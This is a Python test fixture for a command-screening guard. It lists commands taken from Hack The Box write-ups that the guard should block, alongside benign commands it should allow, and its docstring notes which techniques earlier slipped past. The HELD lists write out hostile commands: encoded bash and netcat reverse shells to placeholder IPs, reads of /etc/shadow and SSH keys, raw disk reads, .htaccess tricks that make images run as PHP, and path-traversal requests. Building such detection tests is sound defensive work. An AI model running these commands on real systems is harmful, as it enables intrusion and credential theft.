"""Classes the lead's sample of Hack The Box write-ups (session 19: k0rrib4n/HTB-Writeups, p0i5on8/HTB-
Writeups, sadeli413/htb-writeups; 147 lines, labelled before any verdict was seen, 44 of 57 held back at
first sight, no false positive of 45; kept outside the repository) got past the guards. The commands here
are variants written for the tests, not the ones measured:

- a host scanner told to fingerprint another machine (services and versions, scripts, the system, every
  port): ``nmap -sC -sV IP``, the first line of every write-up, was discovery; now asked (network scanning).
  The machine itself and a plain port check stay allowed;
- curl and wget given a URL without its scheme (``curl "10.10.10.191/x.jpg?cmd=id"``): read as http://, so
  the web-attack checks see it;
- a program kept in a folder of exploits (``python3 Exploits/cmdline.py -u URL``);
- an Apache directive written anywhere that has images run as PHP (``AddType application/x-httpd-php .jpg``
  into an ``.htaccess``): the upload of a web shell made to run;
- a request whose URL path names a system's account or key files (``curl -X PUT
  http://IP:7777/root/.ssh/authorized_keys -d @key.pub``): a server that maps paths onto the root;
- server code renamed as an image (``mv shell.php shell.php.jpg``): an upload filter's bypass;
- after a second sample (bugi00/HTB-writeups, rupadrashta/HTB-WriteUps: 42 of 54 held back at first sight, no
  false positive of 57): a disk's bytes shown (``strings /dev/sdb``, ``grep -a pass /dev/nvme0n1p2``): every
  file on it read past the permissions; another account's home directory itself copied, linked or searched
  (``cp -r /root ./loot``, ``ln -s /root courses``), not only a file under it. Listing it (``ls /root``)
  and checking it (``stat``) stay allowed; a remote shell piped into an encoder (``echo 'bash -i >&
  /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter; another account's file on another
  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``); from
  left21's held-out sample (blankshiro's write-ups): a site's exposed ``.git`` dumped (``git-dumper URL
  dir``).
"""

from __future__ import annotations

HELD = {
    "host fingerprinted": [
        "nmap -sC -sV -oN nmap/initial 10.10.10.5",
        "sudo nmap -p- --min-rate 10000 10.129.2.4",
        "nmap -A -T4 box.htb",
        "nmap -p 21,22,80 -sCV -Pn 10.10.11.8",
        "nmap --script 'smb-vuln*' -p 445 10.0.0.7",
    ],
    "scheme-less URL attacked": [
        'curl "10.10.10.191/uploads/img.png?cmd=whoami"',
        "curl -s 10.0.0.9:8080/index.php?page=../../../../etc/passwd",
        "wget -qO- 'target.htb/shell.php?c=id'",
    ],
    "program from a folder of exploits": [
        "python3 exploits/lfi.py -u http://10.0.0.5/",
        "./Exploits/run.sh 10.0.0.5",
        "perl sploits/x.pl target",
    ],
    "images made to run as PHP": [
        'echo "AddType application/x-httpd-php .png" > .htaccess',
        "printf 'AddHandler php7-script .gif\\n' >> uploads/.htaccess",
        "tee -a .htaccess <<< 'AddType application/x-httpd-php .php .jpg'",
    ],
    "system file through a server's paths": [
        'curl -X PUT http://10.0.0.5:8161/fileserver/../root/.ssh/authorized_keys -d "ssh-ed25519 AAAA"',
        "curl -T key.pub http://10.0.0.5:7777/root/.ssh/authorized_keys",
        "curl http://10.0.0.5:8000/etc/shadow",
        "wget http://10.0.0.5/home/bob/.ssh/id_rsa",
    ],
    "server code named as an image": [
        "mv shell.php shell.php.jpg",
        "cp cmd.aspx upload/cmd.aspx.png",
        "cp rev.phtml ./rev.phtml.gif",
    ],
    "a disk's bytes shown": [
        "strings /dev/sdb",
        "grep -a -i password /dev/nvme0n1p2",
        "cat /dev/mapper/vg0-root | strings | grep ssh-rsa",
        "xxd /dev/sda1 | head -100",
    ],
    "another account's home itself": [
        "cp -r /root ./loot",
        "ln -s /root courses",
        "rsync -a /home/alice/ ./a/",
        "find /home/alice -name '*.kdbx'",
    ],
    "another account's file on another root": [
        "cat /mnt/root/root.txt",
        "cat /mnt/home/mike/user.txt",
        "cp /host/root/notes.txt .",
    ],
    "a site's .git dumped": [
        "git-dumper http://dev.example.htb/.git/ ./dump",
        "goop target.htb",
    ],
    "a remote shell encoded": [
        "echo 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1' | base64",
        "printf 'sh -i >& /dev/udp/10.0.0.1/9001 0>&1' | base64 -w0",
        "echo 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f' | xxd -p",
    ],
}

ALLOWED = [
    "nmap -p 5432 db.internal",
    "nmap -sV -p 8080 localhost",
    "nmap -sn 192.168.1.0/24",
    "curl -s api.github.com/repos/python/cpython",
    "curl localhost:8000/health?verbose=1",
    "wget 10.0.0.2/releases/app.tar.gz",
    "python3 src/exploits.py",
    "ls exploits/",
    'echo "AddType application/x-httpd-php .php" >> .htaccess',
    'echo "AddType text/css .css" > public/.htaccess',
    "curl https://github.com/octocat.keys",
    "cp logo.png public/logo.png",
    "mv config.php config.php.bak",
    "head -c 32 /dev/urandom | base64",
    "cat /dev/null > build.log",
    "sudo smartctl -a /dev/sda",
    "ls /root",
    "ls -ld /home/alice",
    "stat /root",
    "cp -r /home/dev/templates ./templates",
    "echo -n 'user:token' | base64",
    "cat /mnt/home/dev/notes.txt",
    "cat /mnt/data/report.csv",
    "git-dumper --help",
    "bspc node -t ~fullscreen",
    'mitmdump -nr flows -w out "~m_post"',
    "git clone https://github.com/arthaud/git-dumper",
    "echo 'nc -z localhost 5432' | base64",
]
